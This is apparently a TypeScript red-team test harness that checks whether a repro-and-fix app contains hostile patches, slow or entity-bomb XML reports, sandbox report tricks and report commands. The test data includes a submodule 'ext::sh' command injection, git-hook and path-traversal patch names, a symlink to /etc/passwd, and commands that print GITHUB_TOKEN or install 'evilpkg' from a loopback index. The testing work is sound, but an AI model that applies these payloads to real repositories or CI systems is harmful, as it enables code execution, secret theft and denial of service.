/**
 * Host-side steps of the twentieth red team's cases, run in a process of their own
 * (`tsx redteam20-step.ts <dir> <id>…`) so a case that holds the host can be killed and measured.
 * Waves 1–19 went to installs, lockfiles, git, parsers, patches, model answers, format characters, caches, clocks,
 * webhook bytes and time; this one goes to what they left: file names a patch spells with C-quoted octal bytes that
 * are not UTF-8 (and what they become on disk), stacked combining marks in a path and an added line, patches that
 * delete or rename thousands of files and git metadata a patch adds, XML reports shaped to be slow per byte (on the
 * streaming log parser and on the report a test run leaves for the host to collect), what a sandboxed run leaves
 * where the host collects its report (a link, a 20 GiB sparse file, a directory of 100,000 files, a FIFO) and what
 * it floods its output with, many signed deliveries of one event at once, and interpreter and installer options in
 * a report's commands. One JSON line per case: `{ id, cpuMs, outcome, contained }`.
 */
import { randomUUID } from "node:crypto";
import { execFileSync } from "node:child_process";
import path from "node:path";
import { readResults } from "../../../src/fix/test-runner/results.ts";
import { completeProgram } from "../../../src/repro/complete.ts";
import { parseReport } from "../../../src/repro/parse-report.ts";
import { createDockerSandbox } from "../../../src/sandbox/docker.ts";
import { example, postWebhook, startApp } from "../../e2e/support/app-harness.ts";
import { startFakeGitHub } from "../../e2e/support/fake-github.ts";
import { sandboxImage } from "../../support/docker.ts";
import { log, lines } from "./parse-step.ts";
import { commitMessageOf, gateThenApply, prTitleOf, short } from "./patch-step.ts";
import { type Outcome, ok, runStepCases, writeTree } from "./wave-step.ts";

const [root, ...ids] = process.argv.slice(2) as [string, ...string[]];
let dir = root;
const MiB = 1024 * 1024;

// ---- Patches: file names spelled with octal bytes, combining marks, thousands of files, git metadata.

function repo(): string {
  const r = writeTree(path.join(dir, "repo"), {
    "src/auth.js": "const ok = check(user);\nif (ok) allow();\n",
    ...Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`src/f${i}.js`, "x\n"])),
  });
  execFileSync("git", ["init", "-q"], { cwd: r });
  return r;
}

const newFile = (quoted: string, line = "module.exports = () => true;") =>
  `diff --git "a/${quoted}" "b/${quoted}"\nnew file mode 100644\n--- /dev/null\n+++ "b/${quoted}"\n@@ -0,0 +1 @@\n+${line}\n`;

/** Contained when the gate refuses the patch (the pipeline gates before it applies). */
async function gated(patch: string): Promise<Outcome> {
  const r = await gateThenApply(patch, repo(), (p) => JSON.stringify(Object.keys(p.files).slice(0, 3)));
  return ok(`${r.gate} | ${r.applied}`, !r.allowed);
}

/** Contained when no run of six or more combining marks reaches `text` raw (added after the first try). */
function unstacked(what: string, text: string): Outcome {
  const run = /\p{M}{6,}/u.exec(text);
  return ok(
    run
      ? `${what} holds ${run[0].length} stacked marks raw`
      : `${what} shows them: ${JSON.stringify(short(text, 120))}`,
    run === null,
  );
}

// ---- Reports shaped to be slow per byte: the streaming parser, and the report a run leaves (readResults).

/** The wave's budget (RETRACE_HOST_LIMITS: 1 s and 500 ms per MiB) with a margin for a loaded machine. */
const budgetMs = (text: string) => 1.25 * (1000 + (500 * Buffer.byteLength(text)) / MiB) + 300;

function streamed(text: string): Outcome {
  const t0 = process.cpuUsage();
  const r = log(text);
  const u = process.cpuUsage(t0);
  const ms = Math.round((u.user + u.system) / 1000);
  return ok(`${r.outcome}; ${ms} ms for ${(text.length / MiB).toFixed(1)} MiB`, ms <= budgetMs(text));
}

/**
 * The report a run leaves, read as the test runner reads it; contained within the CPU budget and with the process's
 * peak memory at most 200 MiB above what it held with the report in hand (the first try checked CPU alone: the
 * million-attribute testcase's 1.1 GiB was in the recorder's maxRssMb).
 */
function collected(text: string, format = "junit"): Outcome {
  const rss = process.memoryUsage().rss / MiB;
  const t0 = process.cpuUsage();
  let what: string;
  try {
    what = `${readResults(format, text).length} tests`;
  } catch (e) {
    what = `refused: ${short((e as Error).message, 140)}`;
  }
  const u = process.cpuUsage(t0);
  const ms = Math.round((u.user + u.system) / 1000);
  const grown = Math.round(process.resourceUsage().maxRSS / 1024 - rss);
  return ok(
    `${what}; ${ms} ms for ${(text.length / MiB).toFixed(1)} MiB, peak memory +${Math.max(0, grown)} MiB`,
    ms <= budgetMs(text) && grown <= 200,
  );
}

const ENTITY_BOMB = (() => {
  const ents = ['<!ENTITY a "aaaaaaaaaa">'];
  for (let i = 1; i < 9; i++) {
    const p = String.fromCharCode(96 + i);
    ents.push(`<!ENTITY ${String.fromCharCode(97 + i)} "${`&${p};`.repeat(10)}">`);
  }
  return `<?xml version="1.0"?>\n<!DOCTYPE l [${ents.join("")}]>\n<testsuites><testsuite name="s" tests="1" failures="1"><testcase classname="c" name="t&i;"><failure message="&i;">&i;</failure></testcase></testsuite></testsuites>\n`;
})();

// ---- What a sandboxed run leaves where the host collects its report, and its output.

async function inSandbox(script: string, timeoutMs = 30_000): Promise<Outcome> {
  const sandbox = createDockerSandbox({ image: sandboxImage });
  const t = Date.now();
  const before = process.memoryUsage().rss;
  const r = await sandbox.run({
    jobId: `rt20-${randomUUID().slice(0, 8)}`,
    command: ["sh", "-c", script],
    env: { PATH: "/usr/local/bin:/usr/bin:/bin", HOME: "/tmp" },
    input: { files: { "README.md": "x\n" } },
    collect: ["report.xml"],
    limits: { timeoutMs },
  });
  const bytes = r.files["report.xml"];
  const text = bytes === undefined ? "" : new TextDecoder().decode(bytes);
  let read = "no report";
  if (bytes !== undefined) {
    try {
      read = `${readResults("junit", text).length} tests`;
    } catch (e) {
      read = `report refused: ${short((e as Error).message, 80)}`;
    }
  }
  const grown = Math.round((process.memoryUsage().rss - before) / MiB);
  const secret = /root:x:0:0|retrace-rt20/.test(text + r.stdout + r.stderr);
  return ok(
    `${read}; files ${Object.keys(r.files).length}, too large ${JSON.stringify(r.collectTooLarge ?? [])}, stopped ${r.stoppedBy}, exit ${r.exitCode}, stdout ${r.stdout.length} B, ${Math.round((Date.now() - t) / 1000)} s, host RSS +${grown} MiB${secret ? "; HOST OR CONTAINER FILE READ BACK" : ""}`,
    !secret && grown < 300 && Date.now() - t < 60_000,
  );
}

// ---- Many signed deliveries of one event at once; a flood of comment commands by a reader.

async function appRun(
  deliveries: (post: typeof postWebhook, app: { url: string }) => Promise<Response[]>,
): Promise<{ jobs: number; ran: number; statuses: string }> {
  const github = await startFakeGitHub();
  github.state.permissions.set("Codertocat/Hello-World:Codertocat", "write");
  let ran = 0;
  const runner = {
    run: async () => {
      ran++;
      throw new Error("no job may run in this case");
    },
  };
  const app = await startApp(github, runner as never, { dbPath: path.join(dir, "jobs.sqlite") });
  try {
    const rs = await deliveries(postWebhook, app);
    await app.service.idle();
    const counts: Record<number, number> = {};
    for (const r of rs) counts[r.status] = (counts[r.status] ?? 0) + 1;
    return { jobs: app.store.all().length, ran, statuses: JSON.stringify(counts) };
  } finally {
    await app.close();
    await github.close();
  }
}

function labeled() {
  const p = example("issues", "labeled");
  p.label.name = "needs-repro";
  return p;
}

// ---- Interpreter and installer options in a report's commands.

function reportCommand(steps: string): Outcome {
  const report = `### Bug\nIt crashes.\n\n### Steps to reproduce\n\`\`\`console\n${steps}\n\`\`\`\n\n### Actual\n\`\`\`\nKeyError: 'font'\n\`\`\`\n`;
  const program = completeProgram(parseReport(report));
  if (!program) return ok("no program was built from the report", true);
  const text = JSON.stringify(program);
  const carried = /PYTHONSTARTUP|PYTHONPATH|NODE_OPTIONS|index-url|127\.0\.0\.1|-X |\/proc\/self/.test(text);
  return ok(`program: ${short(text, 200)}`, !carried);
}

const cases: Record<string, () => Promise<Outcome> | Outcome> = {
  // C-quoted octal bytes in patch file names.
  "patch-name-invalid-utf8-bytes": () => gated(newFile("src/\\377\\376.js")),
  "patch-name-overlong-utf8-dots": () => gated(newFile("src/\\300\\256\\300\\256/x.js")),
  "patch-names-collapse-to-one": () => gated(newFile("src/a\\377.js") + newFile("src/a\\376.js", "x")),
  "patch-name-octal-dotdot": () => gated(newFile("src/\\056\\056/\\056\\056/x.js")),
  "patch-name-octal-dotgit": () => gated(newFile("\\056git/hooks/pre-commit", "touch /tmp/x")),
  "patch-name-octal-bidi": () => gated(newFile("src/auth\\342\\200\\256sj.js")),
  // Stacked combining marks (visible, drawn over neighbouring text).
  "patch-path-stacked-combining-marks": () => gated(newFile(`src/auth${"\u0301\u0336".repeat(150)}.js`)),
  "patch-line-stacked-combining-marks": () =>
    gated(
      `diff --git a/src/auth.js b/src/auth.js\n--- a/src/auth.js\n+++ b/src/auth.js\n@@ -1,2 +1,2 @@\n const ok = check(user);\n-if (ok) allow();\n+if (ok${"\u0336".repeat(400)} || true) allow();\n`,
    ),
  // Thousands of files.
  "patch-delete-20000-files": () =>
    gated(
      Array.from(
        { length: 20_000 },
        (_, i) =>
          `diff --git a/src/f${i}.js b/src/f${i}.js\ndeleted file mode 100644\n--- a/src/f${i}.js\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n`,
      ).join(""),
    ),
  "patch-rename-20000-files": () =>
    gated(
      Array.from(
        { length: 20_000 },
        (_, i) =>
          `diff --git a/src/f${i}.js b/src/g${i}.js\nsimilarity index 100%\nrename from src/f${i}.js\nrename to src/g${i}.js\n`,
      ).join(""),
    ),
  "patch-1000-new-files-at-applier-cap": () =>
    gated(Array.from({ length: 1000 }, (_, i) => newFile(`src/n${i}.js`, "x")).join("")),
  // Git metadata a patch adds.
  "patch-gitlink-mode": () =>
    gated("diff --git a/src/auth.js b/src/auth.js\nold mode 100644\nnew mode 160000\n"),
  "patch-gitattributes-filter": () =>
    gated(
      "diff --git a/.gitattributes b/.gitattributes\nnew file mode 100644\n--- /dev/null\n+++ b/.gitattributes\n@@ -0,0 +1 @@\n+*.js filter=evil diff=evil\n",
    ),
  "patch-gitmodules-ext-url": () =>
    gated(
      'diff --git a/.gitmodules b/.gitmodules\nnew file mode 100644\n--- /dev/null\n+++ b/.gitmodules\n@@ -0,0 +1,3 @@\n+[submodule "x"]\n+\tpath = x\n+\turl = ext::sh -c touch% /tmp/pwn\n',
    ),
  // XML reports slow per byte.
  "junit-unclosed-tag-short-lines-streamed": () =>
    streamed(`<?xml version="1.0"?>\n<testsuites>\n<testsuite name="a"\n${lines("x", 8 * MiB)}`),
  "junit-unclosed-tag-short-lines-collected": () =>
    collected(`<?xml version="1.0"?>\n<testsuites>\n<testsuite name="a"\n${lines("x", 8 * MiB)}`),
  "junit-testcase-1m-attributes-collected": () =>
    collected(
      `<testsuites>\n<testsuite name="s">\n<testcase classname="c" ${Array.from({ length: 1_000_000 }, (_, i) => `a${i}="1"`).join(" ")} name="t"><failure message="m">x</failure></testcase>\n</testsuite></testsuites>\n`,
    ),
  "junit-suites-nested-300k-streamed": () =>
    streamed(
      `<testsuites>\n${'<testsuite name="s">\n'.repeat(300_000)}<testcase classname="c" name="t"><failure message="m">x</failure></testcase>\n${"</testsuite>\n".repeat(300_000)}</testsuites>\n`,
    ),
  "junit-internal-entity-bomb-collected": () => {
    const r = collected(ENTITY_BOMB);
    return ok(r.outcome, r.contained !== false && !r.outcome.includes("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"));
  },
  "junit-open-testcase-lt-lines-collected": () =>
    collected(
      `<testsuites>\n<testsuite name="s">\n<testcase classname="c" name="t">\n${lines("<x", 8 * MiB)}`,
    ),
  // Added after the first try (the classes of its fixes).
  "patch-unquoted-name-with-replacement-character": () => gated(newFile("src/\ufffd.js").replaceAll('"', "")),
  "patch-line-pointed-hebrew-and-vietnamese-allowed": async () => {
    // A control of the stacked-marks rule: words as their scripts write them (Hebrew with points and a
    // cantillation mark, Vietnamese with two marks on a letter) are not refused.
    const r = await gateThenApply(
      `diff --git a/src/auth.js b/src/auth.js\n--- a/src/auth.js\n+++ b/src/auth.js\n@@ -1,2 +1,2 @@\n const ok = check(user);\n-if (ok) allow();\n+const greeting = "בְּרֵאשִׁ֖ית Tiếng Việt"; if (ok) allow();\n`,
      repo(),
      (p) => JSON.stringify(Object.keys(p.files)),
    );
    return ok(`${r.gate} | ${r.applied}`, r.allowed && r.appliedOk);
  },
  "pr-title-test-id-stacked-combining-marks": () =>
    unstacked("the draft PR title", prTitleOf("fix-1", [`test_auth${"\u0336\u0301".repeat(60)}_ok`])),
  "commit-message-summary-stacked-combining-marks": async () =>
    unstacked(
      "the commit message",
      await commitMessageOf("fix-1", `Fix auth check${"\u0489".repeat(80)}`, ["test_auth_ok"]),
    ),
  "trx-unclosed-result-short-lines-streamed": () =>
    streamed(
      `<?xml version="1.0"?>\n<TestRun id="1" xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010">\n<Results>\n<UnitTestResult testName="a"\n${lines("x", 8 * MiB)}`,
    ),
  // What a run leaves where the host collects.
  "collect-report-symlink-to-etc-passwd": () => inSandbox("ln -s /etc/passwd report.xml"),
  "collect-report-sparse-20g": () => inSandbox("truncate -s 20G report.xml"),
  "collect-report-directory-100k-files": () =>
    inSandbox("mkdir report.xml && cd report.xml && seq 1 100000 | xargs touch"),
  "collect-report-fifo": () => inSandbox("mkfifo report.xml"),
  "collect-report-hardlinks-of-one-file": () =>
    inSandbox(
      "mkdir report.xml && head -c 1048576 /dev/zero > report.xml/a && for i in $(seq 1 3000); do ln report.xml/a report.xml/l$i; done",
    ),
  "run-stdout-flood-random-bytes": () => inSandbox("head -c 300000000 /dev/urandom"),
  // Signed deliveries at once.
  "webhook-one-event-40-deliveries-at-once": async () => {
    const r = await appRun((post, app) => {
      const p = labeled();
      return Promise.all(Array.from({ length: 40 }, () => post(app, "issues", p)));
    });
    return ok(`40 deliveries of one signed event: ${r.jobs} job(s), statuses ${r.statuses}`, r.jobs <= 1);
  },
  "webhook-one-delivery-id-40-events-at-once": async () => {
    const r = await appRun((post, app) =>
      Promise.all(
        Array.from({ length: 40 }, (_, i) => {
          const p = labeled();
          p.issue.number = 1000 + i;
          return post(app, "issues", p, { delivery: "one-delivery-id" });
        }),
      ),
    );
    return ok(`40 events under one delivery id: ${r.jobs} job(s), statuses ${r.statuses}`, r.jobs <= 1);
  },
  "webhook-comment-flood-by-reader": async () => {
    const r = await appRun((post, app) =>
      Promise.all(
        Array.from({ length: 60 }, (_, i) => {
          const p = example("issue_comment", "created");
          p.comment.id = 9000 + i;
          p.comment.body = "/retrace";
          p.comment.user = { login: "reader", type: "User" };
          p.sender = { login: "reader", type: "User" };
          return post(app, "issue_comment", p);
        }),
      ),
    );
    return ok(
      `60 comment commands by a reader: ${r.jobs} job record(s), runner called ${r.ran} time(s), statuses ${r.statuses}`,
      r.ran === 0,
    );
  },
  // Interpreter and installer options in a report's commands.
  "report-python-startup-and-X-options": () =>
    reportCommand(
      "$ PYTHONSTARTUP=/etc/passwd PYTHONPATH=/proc/self python -X importtime -X dev -c \"import json; print({}['font'])\"",
    ),
  "report-pip-index-url-to-loopback": () =>
    reportCommand(
      '$ python -m pip install --index-url http://127.0.0.1:9/simple/ --trusted-host 127.0.0.1 evilpkg==1.0\n$ python -c "import evilpkg"',
    ),
  "report-node-options-require": () =>
    reportCommand("$ NODE_OPTIONS='--require /proc/self/environ' node -e \"require('x')\""),
  "report-python-isolated-env-read": () =>
    reportCommand("$ python -I -S -E -c \"import os; print(os.environ['GITHUB_TOKEN'])\""),
};

await runStepCases(cases, root, ids, (d) => {
  dir = d;
});
